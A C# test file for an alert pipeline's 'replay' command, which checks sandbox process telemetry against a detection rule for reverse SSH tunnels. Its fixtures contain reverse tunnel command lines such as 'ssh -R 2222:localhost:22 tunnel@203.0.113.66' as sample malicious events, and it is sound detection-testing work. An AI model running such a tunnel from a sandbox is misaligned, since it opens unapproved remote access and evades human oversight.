using System.Text.Json;

namespace AlertPipeline.Cli.Tests.Commands;

public sealed class ReplayCommandTests : IDisposable
{
    private const string TunnelRule = """
        title: Reverse SSH tunnel from a sandbox
        id: 0b6f1e0a-6a55-4f0e-9a0e-3d1b1c2f0a01
        status: test
        level: critical
        tags:
          - attack.t1572
        logsource:
          product: linux
          category: process_creation
        detection:
          selection:
            process.command_line|contains: 'ssh -R'
          condition: selection
        """;

    private readonly string _dir = Directory.CreateTempSubdirectory("alertpipe-replay-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private string Write(string relative, string content)
    {
        var path = Path.Combine(_dir, relative);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, content);
        return path;
    }

    private static string ProcessStart(string time, string sandbox, string commandLine) => JsonSerializer.Serialize(new Dictionary<string, object>
    {
        ["@timestamp"] = time,
        ["event"] = new { category = "process", type = "start" },
        ["sandbox"] = new { id = sandbox },
        ["process"] = new { command_line = commandLine, pid = 4242 },
    });

    [Fact]
    public async Task Json_output_has_one_line_per_alert_with_the_documented_fields()
    {
        var rules = Write("rules/default/tunnel.yml", TunnelRule);
        var telemetry = Write("t.jsonl", string.Join('\n',
            ProcessStart("2025-11-14T03:20:00Z", "rl-env-7731", "ssh -R 2222:localhost:22 tunnel@203.0.113.66"),
            ProcessStart("2025-11-14T03:20:05Z", "rl-env-7731", "ssh -R 2223:localhost:22 -N tunnel@203.0.113.66"),
            "{ this is not json",
            ProcessStart("2025-11-14T03:21:00Z", "rl-env-7732", "pip install torch")));

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", Path.GetDirectoryName(Path.GetDirectoryName(rules))!, "--output", "json");

        Assert.Equal(0, run.ExitCode);
        var line = Assert.Single(ReplayOutput.AlertLines(run.Stdout));
        using var alert = JsonDocument.Parse(line);
        var root = alert.RootElement;
        Assert.Equal("0b6f1e0a-6a55-4f0e-9a0e-3d1b1c2f0a01", root.GetProperty("ruleId").GetString());
        Assert.Equal("critical", root.GetProperty("level").GetString());
        Assert.Equal("rl-env-7731", root.GetProperty("sandboxId").GetString());
        Assert.Equal(2, root.GetProperty("eventCount").GetInt64());
        Assert.Equal("2025-11-14T03:20:00.000Z", root.GetProperty("firstSeen").GetString());
        Assert.Equal(["attack.t1572"], root.GetProperty("tags").EnumerateArray().Select(t => t.GetString()));
        Assert.Matches("^[0-9a-f]{32}$", root.GetProperty("alertId").GetString());
        var actions = root.GetProperty("actions").EnumerateArray().ToDictionary(a => a.GetProperty("channel").GetString()!, a => a.GetProperty("status").GetString());
        Assert.Equal("printed", actions["email"]);
        Assert.Equal("printed", actions["teams"]);
        Assert.Equal("skipped", actions["shutdown"]); // no inventory: the guardrail refuses an unknown sandbox

        Assert.Contains("events read: 4 (accepted 3, rejected 1)", run.Stderr);
        Assert.Contains("rejected malformed-json: 1", run.Stderr);
        Assert.Contains("alerts: 1 (critical 1)", run.Stderr);
    }

    [Fact]
    public async Task Table_output_lists_alerts_and_prints_what_would_be_sent()
    {
        var rules = Write("rules/default/tunnel.yml", TunnelRule);
        var inventory = Write("inventory.json", """[{"id":"rl-env-7731","team":"rl","addresses":[]}]""");
        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:20:00Z", "rl-env-7731", "ssh -R 2222:localhost:22 tunnel@203.0.113.66"));

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", Path.Combine(_dir, "rules"), "--inventory", inventory);

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("Reverse SSH tunnel from a sandbox", run.Stdout);
        Assert.Contains("shutdown:printed", run.Stdout);
        Assert.Contains("Would send", run.Stdout);
        Assert.Contains("\"sandboxId\":\"rl-env-7731\"", run.Stdout); // the signed command itself
        Assert.Contains("\"signature\":", run.Stdout);
        Assert.DoesNotContain("tunnel@203.0.113.66", run.Stdout.Split("Would send")[0].Split('\n')[0]);
    }

    [Fact]
    public async Task Replaying_the_same_file_twice_does_not_double_count()
    {
        Write("rules/default/tunnel.yml", TunnelRule);
        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:20:00Z", "rl-env-7731", "ssh -R 1:localhost:22 x@203.0.113.66"));

        var run = await CliRun.RunAsync("replay", telemetry, telemetry, "--rules", Path.Combine(_dir, "rules"), "--output", "json");

        Assert.Equal(0, run.ExitCode);
        using var alert = JsonDocument.Parse(Assert.Single(ReplayOutput.AlertLines(run.Stdout)));
        Assert.Equal(1, alert.RootElement.GetProperty("eventCount").GetInt64());
    }

    [Fact]
    public async Task No_alerts_is_still_a_completed_run()
    {
        Write("rules/default/tunnel.yml", TunnelRule);
        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:20:00Z", "rl-env-7732", "python train.py"));

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", Path.Combine(_dir, "rules"));

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("No alerts.", run.Stdout);
        Assert.Contains("alerts: 0", run.Stderr);
    }

    [Theory]
    [InlineData(new[] { "replay" }, "at least one telemetry file")]
    [InlineData(new[] { "replay", "/nonexistent/telemetry.jsonl" }, "cannot read /nonexistent/telemetry.jsonl")]
    [InlineData(new[] { "replay", "x.jsonl", "--output", "xml" }, "--output must be table or json")]
    [InlineData(new[] { "replay", "x.jsonl", "--bogus" }, "unknown option --bogus")]
    [InlineData(new[] { "replay", "x.jsonl", "--rules" }, "--rules needs a value")]
    [InlineData(new[] { "frobnicate" }, "unknown command")]
    public async Task Bad_arguments_exit_2_with_one_line(string[] args, string message)
    {
        var run = await CliRun.RunAsync(args);

        Assert.Equal(2, run.ExitCode);
        Assert.Contains(message, run.Stderr);
        Assert.Single(run.Stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
    }

    /// <summary>The tunnel rule as a rule directory and one process start that matches it on rl-env-7731.</summary>
    private (string Telemetry, string Rules) TunnelFiles()
    {
        Write("rules/default/tunnel.yml", TunnelRule);
        var telemetry = Write("t.jsonl", ProcessStart("2025-11-14T03:12:41.020Z", "rl-env-7731", "ssh -R 2222:localhost:22 tunnel@203.0.113.66"));
        return (telemetry, Path.Combine(_dir, "rules"));
    }

    // replay prints the incidents its alerts joined after the alerts: the tracker composed into replay opens them.
    [Fact]
    public async Task Json_output_prints_the_incident_line_after_the_alert_lines()
    {
        var (telemetry, rules) = TunnelFiles();

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", rules, "--output", "json");

        Assert.Equal(0, run.ExitCode);
        var lines = run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var alertLines = ReplayOutput.AlertLines(run.Stdout);
        var alertId = JsonDocument.Parse(Assert.Single(alertLines)).RootElement.GetProperty("alertId").GetString();
        Assert.Equal(alertLines, lines.Take(alertLines.Count));

        // The tracker composed into replay opened the incident; it follows the alert lines.
        var incident = JsonDocument.Parse(Assert.Single(ReplayOutput.IncidentLines(run.Stdout))).RootElement;
        Assert.Equal(lines[^1], ReplayOutput.IncidentLines(run.Stdout)[0]);
        Assert.Equal("rl-env-7731", incident.GetProperty("sandboxId").GetString());
        Assert.Equal("critical", incident.GetProperty("level").GetString());
        Assert.Equal(["T1572"], incident.GetProperty("techniques").EnumerateArray().Select(t => t.GetString()));
        Assert.Equal([alertId], incident.GetProperty("alertIds").EnumerateArray().Select(a => a.GetString()));
        Assert.Contains(incident.GetProperty("timeline").EnumerateArray(), e => e.GetProperty("kind").GetString() == "alert" && e.GetProperty("alertId").GetString() == alertId);
        Assert.Contains("incidents: 1", run.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Table_output_prints_the_story_after_the_alert_table_and_before_the_previews()
    {
        var (telemetry, rules) = TunnelFiles();

        var run = await CliRun.RunAsync("replay", telemetry, "--rules", rules);

        Assert.Equal(0, run.ExitCode);
        var alertRow = run.Stdout.IndexOf("Reverse SSH tunnel from a sandbox", StringComparison.Ordinal);
        var story = run.Stdout.IndexOf("  sandbox rl-env-7731  status open", StringComparison.Ordinal);
        var previews = run.Stdout.IndexOf("Would send", StringComparison.Ordinal);
        Assert.True(alertRow >= 0 && story > alertRow && previews > story, run.Stdout);
        Assert.Contains("  03:12:41.020Z  alert        [critical] alert \"Reverse SSH tunnel from a sandbox\"", run.Stdout, StringComparison.Ordinal);
    }
}
